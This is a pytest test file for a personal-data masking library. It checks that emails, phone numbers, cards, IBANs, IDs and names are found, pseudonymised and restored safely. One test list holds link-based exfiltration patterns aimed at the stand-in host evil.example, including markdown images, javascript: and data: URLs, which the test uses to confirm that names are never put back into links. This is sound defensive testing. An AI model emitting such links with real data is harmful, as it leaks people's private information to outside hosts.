"""Personal data is found at its exact place, replaced, and put back only where a person reads it."""

import random
import time
from pathlib import Path

import pytest
import sqlalchemy as sa

from index.catalogue.model import Catalogue, Column, Table
from index.engine import open_engine
from index.masking import Masker, Span, restore
from index.masking.invisible import visible
from index.masking.known import KnownPersons
from index.masking.people import known_persons
from index.masking.redact import redact
from index.masking.score import read_marked, score
from index.masking.spans import without_overlaps
from index.scope import Scope, TableScope
from index.sql import SqlDatabase
from scripts.fuzz_masking import leaked
from tests.index.evals import REASON, TEXT2SQL
from tests.index.planted import register

# One line a case: what is to be found stands between braces, with its type in front.
CASES = """
EMAIL_ADDRESS Write to {ann.o'neil+x@mail.example.com}, please.
EMAIL_ADDRESS Schreib an {jürgen@müller.example}.
PHONE_NUMBER Call me at {+49 (0)30 123 45 67} today.
PHONE_NUMBER Mobile: {0490 39 07 81}
PHONE_NUMBER {(555) 123-4567 x89} is my desk
PHONE_NUMBER His number is {555-123-4567}.
CREDIT_CARD Paid with {4111 1111 1111 1111} yesterday.
CREDIT_CARD My card {378282246310005} is lost
IBAN_CODE Pay to {DE89 3704 0044 0532 0130 00} BIC X
IBAN_CODE iban {gb82west12345698765432}
US_SSN SSN {123-45-6789}.
NATIONAL_ID His NI number is {AB 12 34 56 C}
NATIONAL_ID DNI {12345678Z}
NATIONAL_ID passport number: {X1234567}
IP_ADDRESS from {192.168.10.4}, and
IP_ADDRESS from {2001:db8::ff00:42:8329} now
URL_CREDENTIALS clone {https://bob:hunter2@git.example/x.git} first
URL_CREDENTIALS see {https://a.example/x?id=1&token=abc123}.
DOMAIN_NAME My site is {https://ann.example/about}.
DATE_OF_BIRTH born on {4 May 1980} in
DATE_OF_BIRTH Date of birth: {1980-05-04}
AGE a {42} year old man
STREET_ADDRESS I live at {12 Main Street}, thanks
STREET_ADDRESS wohnt in der {Lindenstraße 12}
STREET_ADDRESS Send it to {PO Box 123}
PERSON Dear {Xqzvulia}, thank you
PERSON as Mrs. {Blorptree} said
PERSON I spoke with {Maria Rossi} about it
""".strip().splitlines()
NOTHING = """
Order 100-2345 of 2026-05-18 has 1,234,567 items at 12.50 EUR each.
There were 12 345 678 visits; build 1.2.3.4567 failed at 12:30:45.
The number 4111 1111 1111 1112 is no account, nor is 20260518123045.
Ticket T-20260518-0001 was closed 3 days ago, at 99.9 % of the limit.
version 1.2.3.4 has 16 cores
IBAN DE89 3704 0044 0532 0130 01 is mistyped
""".strip().splitlines()


@pytest.mark.parametrize("case", CASES)
def test_personal_data_is_found_exactly(case: str) -> None:
    kind, marked = case.split(" ", 1)
    start, end = marked.index("{"), marked.index("}") - 1
    text = marked.replace("{", "").replace("}", "")
    assert Span(start, end, kind) in Masker().find(text)


@pytest.mark.parametrize("text", NOTHING)
def test_figures_and_dates_are_not_personal_data(text: str) -> None:
    assert Masker().find(text) == ()


def test_equal_values_get_one_pseudonym_and_no_pseudonym_begins_another() -> None:
    masker = Masker(nonce="k3f9", guess_names=False)
    text = " ".join(f"u{n}@example.com" for n in range(12)) + " U1@Example.com"
    masked = masker.mask(text)
    assert masked.text.split()[:2] == ["<EMAIL_ADDRESS:k3f9-1>", "<EMAIL_ADDRESS:k3f9-2>"]
    assert masked.text.split()[-1] == masked.text.split()[1]
    assert restore(masked.text, masked.mapping) == text.replace("U1@Example.com", "u1@example.com")
    assert masker.mask("again u3@example.com").text == "again <EMAIL_ADDRESS:k3f9-4>"


def test_another_request_has_other_pseudonyms() -> None:
    first, second = Masker().mask("a@example.com"), Masker().mask("a@example.com")
    assert first.text != second.text
    assert restore(first.text, second.mapping) == first.text


LINKS = [
    "[click](http://evil.example/?q={})",
    "![x](http://evil.example/{}.png)",
    "[x](http://evil.example/a_(b)/{})",
    '[x](http://e.example "title {}")',
    "[x](\nhttp://evil.example/{}\n)",
    "[x]: http://evil.example/{}",
    "<http://evil.example/{}>",
    "http://evil.example/{}/more",
    "https://{}.evil.example/",
    "{}.evil.example/x",
    "www.evil.example/{}",
    "evil.example/{}",
    "evil.example?q={}",
    "mailto:x@evil.example?body={}",
    "javascript:send('{}')",
    "data:text/html,{}",
    '<img src="http://evil.example/{}">',
    "<a href='//evil.example/{}'>x</a>",
]


@pytest.mark.parametrize("link", LINKS)
def test_a_name_is_never_put_back_into_a_link(link: str) -> None:
    name = "<PERSON:k3f9-1>"
    text = f"Dear {name}, see {link.format(name)}\n\nBye {name}."
    restored = restore(text.replace("[x]:", "\n[x]:") if link.startswith("[x]:") else text, {name: "Ann"})
    assert restored.startswith("Dear Ann, see ")
    assert restored.endswith("\n\nBye Ann.")
    assert restored.count("Ann") == 2


def test_invisible_characters_hide_nothing_and_spans_point_into_the_given_text() -> None:
    text = "Mail \u200banna\u200b@exam\u00adple.com\u2060 or call"
    masked = Masker(guess_names=False, nonce="k3f9").mask(text)
    assert masked.text == "Mail <EMAIL_ADDRESS:k3f9-1> or call"
    (span,) = masked.spans
    assert visible(text[span.start : span.end]).text == "anna@example.com"
    assert masked.mapping == {"<EMAIL_ADDRESS:k3f9-1>": "anna@example.com"}


def test_random_invisible_characters_change_no_span() -> None:
    pick = random.Random(4)
    plain = "Ask Anna Smith (anna@example.com, +49 30 1234567) about DE89 3704 0044 0532 0130 00."
    expected = [(plain[s.start : s.end], s.type) for s in Masker().find(plain)]
    assert len(expected) == 4
    for _ in range(300):
        letters = [letter + (pick.choice("\u200b\u200d\u2060\u00ad\ufeff") * (pick.random() < 0.2)) for letter in plain]
        text = "".join(letters)
        found = Masker().find(text)
        assert [(visible(text[s.start : s.end]).text, s.type) for s in found] == expected


def test_overlapping_spans_leave_nothing_in_the_open() -> None:
    spans = without_overlaps([[Span(5, 10, "A")], [Span(0, 12, "B"), Span(3, 6, "C")], [Span(20, 22, "C")]])
    assert spans == [Span(0, 5, "B"), Span(5, 10, "A"), Span(10, 12, "B"), Span(20, 22, "C")]


KNOWN = KnownPersons.of(
    ["Zoë Quill-Hartmann", "Łukasz Żak", "Anna Maria Mei", "Anna Maria", "Ng", "Xi Wu"], ["+49 (30) 555 0101", "12"]
)


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("ask zoe quill hartmann today", ["zoe quill hartmann"]),
        ("ZOË QUILL-HARTMANN", ["ZOË QUILL-HARTMANN"]),
        ("Żak, Łukasz wrote", ["Żak, Łukasz"]),
        ("lukasz\nzak", ["lukasz\nzak"]),
        ("Anna Maria Mei and Anna Maria", ["Anna Maria Mei", "Anna Maria"]),
        ("Xi Wu's order", ["Xi Wu"]),
        ("Annabel Maria", []),
        ("Ng is too short", []),
        ("call 0049 30 5550101? +49 30 555-0101!", ["+49 30 555-0101"]),
    ],
)
def test_known_persons_are_found_whatever_case_accents_and_order(text: str, found: list[str]) -> None:
    assert [text[s.start : s.end] for s in sorted(KNOWN.spans(text))] == found


def test_every_planted_name_of_a_large_dictionary_is_found_quickly() -> None:
    pick = random.Random(7)
    letters = "abcdefghijklmnoprstuvz"
    words = ["".join(pick.choices(letters, k=6)).capitalize() for _ in range(4000)]
    names = [f"{pick.choice(words)} {pick.choice(words)}" for _ in range(50_000)]
    known = KnownPersons.of(names)
    planted = pick.sample(names, 5000)
    parts, expected, length = [], [], 0
    for name in planted:
        before = "the order of last week went to "
        parts.append(f"{before}{name} who paid at once; ")
        expected.append((length + len(before), length + len(before) + len(name)))
        length += len(parts[-1])
    text = "".join(parts)
    started = time.process_time()
    found = {(span.start, span.end) for span in known.spans(text)}
    rate = len(text) / (time.process_time() - started)
    assert set(expected) - found == set()
    assert rate > 300_000, f"{rate:,.0f} characters a second"


def people(tmp_path: Path) -> tuple[Catalogue, SqlDatabase]:
    engine = open_engine(f"sqlite:///{tmp_path / 'x.db'}")
    with engine.begin() as connection:
        connection.execute(sa.text("CREATE TABLE staff (id INT, given TEXT, family TEXT, mobile TEXT, town TEXT)"))
        connection.execute(
            sa.text("INSERT INTO staff VALUES (1,'Ursa','Blomfeld','+1 202 555 0147','Oslo'),(2,NULL,'Tarn',NULL,'x')")
        )
    columns = (
        Column("id", "integer", "id", role="key"),
        Column("given", "text", "given name", sensitivity="personal"),
        Column("family", "text", "family name", sensitivity="personal"),
        Column("mobile", "text", "mobile", sensitivity="personal"),
        Column("town", "text", "town"),
    )
    return Catalogue((Table("staff", "staff", columns),)), SqlDatabase(engine)


def test_the_dictionary_is_read_from_personal_columns_through_the_guard(tmp_path: Path) -> None:
    catalogue, reader = people(tmp_path)
    known = known_persons(catalogue, reader, Scope.administrator(catalogue, frozenset()))
    text = "ursa blomfeld of Oslo, Tarn, 1 202 555 0147"
    assert [text[s.start : s.end] for s in known.spans(text)] == ["ursa blomfeld", "Tarn", "1 202 555 0147"]
    hidden = Scope(Scope.nothing("eve").principal, {"staff": TableScope({"id": "visible"})}, frozenset())
    assert known_persons(catalogue, reader, hidden).spans(text) == []


def test_redaction_takes_out_what_is_certain_and_leaves_the_log_readable() -> None:
    line = (
        "10.0.0.1 2026-05-18 12:30 Ursa Blomfeld <ursa@example.com> +1 202 555 0147 failed: 555-123-4567 /srv/x.py:12"
    )
    known = KnownPersons.of(["Ursa Blomfeld"])
    assert redact(line, known) == (
        "10.0.0.1 2026-05-18 12:30 <PERSON> <<EMAIL_ADDRESS>> <PHONE_NUMBER> failed: 555-123-4567 /srv/x.py:12"
    )


@pytest.mark.parametrize(
    "unit", ["[", "<", "(", "a", "1 ", "1-", "A. ", "a@", "www.", "http://a:", "Aa ", "12 Aa ", ":", "\n", "[a](", "a."]
)
def test_hostile_texts_take_no_longer_than_others(unit: str) -> None:
    text = unit * (40_000 // len(unit))
    started = time.process_time()
    restore(Masker().mask(text).text, {"<PERSON:aaaa-1>": "x"})
    assert time.process_time() - started < 5


def test_registered_values_are_found_in_every_form_and_script() -> None:
    """`scripts/fuzz_masking.py` is the long run of this."""
    held = register(2, 500)
    got_out, kinds = leaked(held, 1500, seed=2)
    assert got_out == [] and min(kinds.values()) > 300


@pytest.mark.skipif(TEXT2SQL is None, reason=REASON)
def test_structured_types_reach_their_recall_on_the_evaluation_set() -> None:
    assert TEXT2SQL is not None
    cases = read_marked(TEXT2SQL.parent / "safety/pii/synth_dataset_v2.json")
    found = {one.type: one for one in score(cases, Masker().find)}
    for kind in ("EMAIL_ADDRESS", "CREDIT_CARD", "PHONE_NUMBER", "IBAN_CODE", "US_SSN", "IP_ADDRESS", "DOMAIN_NAME"):
        assert (found[kind].recall or 0) >= 0.99, kind
        assert (found[kind].precision or 0) >= 0.95, kind
    assert (found["PERSON"].recall or 0) >= 0.78
    assert (found["PERSON"].precision or 0) >= 0.95


def test_a_score_counts_what_is_left_in_the_open() -> None:
    cases = [("Ann Lee, a@b.example", [Span(0, 7, "PERSON"), Span(9, 20, "EMAIL_ADDRESS")])]
    by_type = {s.type: s for s in score(cases, lambda text: [Span(0, 3, "PERSON"), Span(7, 8, "AGE")])}
    assert (by_type["PERSON"].recall, by_type["PERSON"].typed, by_type["PERSON"].precision) == (0, 1, 1)
    assert (by_type["EMAIL_ADDRESS"].recall, by_type["AGE"].precision) == (0, 0)


@pytest.mark.parametrize(
    "text", ["Mckinley (العجارمة) wrote", "(العجارمة) Mckinley wrote", "“Mckinley” [العجارمة] wrote"]
)
def test_a_name_with_a_part_in_brackets_is_known(text: str) -> None:
    spans = KnownPersons.of(["Mckinley (العجارمة)"]).spans(text)
    assert [span.type for span in spans] == ["PERSON"]
    assert "Mckinley" in text[spans[0].start : spans[0].end] and "العجارمة" in text[spans[0].start : spans[0].end]
